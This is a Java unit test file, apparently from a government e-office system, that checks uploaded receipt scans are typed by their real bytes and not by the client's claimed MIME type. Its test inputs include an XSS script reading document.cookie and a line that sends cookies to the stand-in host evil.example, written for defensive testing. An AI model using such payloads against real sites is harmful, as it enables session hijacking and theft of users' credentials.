package org.daftar.eoffice;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import org.daftar.eoffice.receipt.NewReceipt;
import org.daftar.eoffice.receipt.Receipt;
import org.junit.jupiter.api.Test;

/** A receipt's attached scan is recorded as what its bytes are, not as what the diarising client claimed. */
class ReceiptScanTypeTest extends EofficeTestBase {

    private Receipt diarise(String subject, String bytes, String claimedType) {
        NewReceipt receipt = new NewReceipt(subject, null, null, "Commissioner Bhopal", null, null, null, null, null,
                "466001", null, null, null, null, LocalDate.parse("2026-03-01"), null, null, true, true, false, null, null);
        return eoffice.receipts().diarise(sehore.clerk(), receipt,
                new ByteArrayInputStream(bytes.getBytes(StandardCharsets.UTF_8)), claimedType);
    }

    @Test
    void anHtmlPageAttachedAsAPdfIsRecordedAsHtml() {
        Receipt receipt = diarise("scan that is a page", "<html><script>alert(document.cookie)</script></html>",
                "application/pdf");
        assertThat(receipt.node().content().mimeType()).isEqualTo("text/html");
    }

    @Test
    void aPdfAttachedAsHtmlIsRecordedAsAPdf() {
        Receipt receipt = diarise("scan claimed to be a page", "%PDF-1.4\n1 0 obj", "text/html");
        assertThat(receipt.node().content().mimeType()).isEqualTo("application/pdf");
    }

    @Test
    void aScriptAttachedAsJavaScriptIsRecordedAsText() {
        Receipt receipt = diarise("scan that is a script", "document.location='http://evil.example/'+document.cookie",
                "application/javascript");
        assertThat(receipt.node().content().mimeType()).isEqualTo("text/plain");
    }
}
